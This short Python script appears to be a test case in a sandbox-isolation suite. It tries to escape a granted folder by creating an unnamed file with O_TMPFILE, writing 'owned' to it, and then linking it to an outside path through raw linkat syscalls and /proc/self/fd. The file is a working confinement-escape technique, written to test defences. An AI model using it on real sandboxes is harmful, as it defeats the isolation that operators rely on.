# attack: make a file without a name and give it a name outside the granted folder
# success: the file exists on the host
import os
from support.raw import bait, call, say

O_TMPFILE = 0o20200000
for folder in ("/", "/usr/share", "/tmp", bait("GRANTED"), bait("SHARED"), os.path.dirname(bait("DROP"))):
    try:
        file = os.open(folder, O_TMPFILE | os.O_RDWR, 0o755)
    except OSError as error:
        say(f"{folder}: {error}")
        continue
    os.write(file, b"owned")
    for old, flags in ((b"", 0x1000), (f"/proc/self/fd/{file}".encode(), 0x400)):
        start = file if old == b"" else -100
        say(call(265, start, old, -100, bait("DROP").encode(), flags))
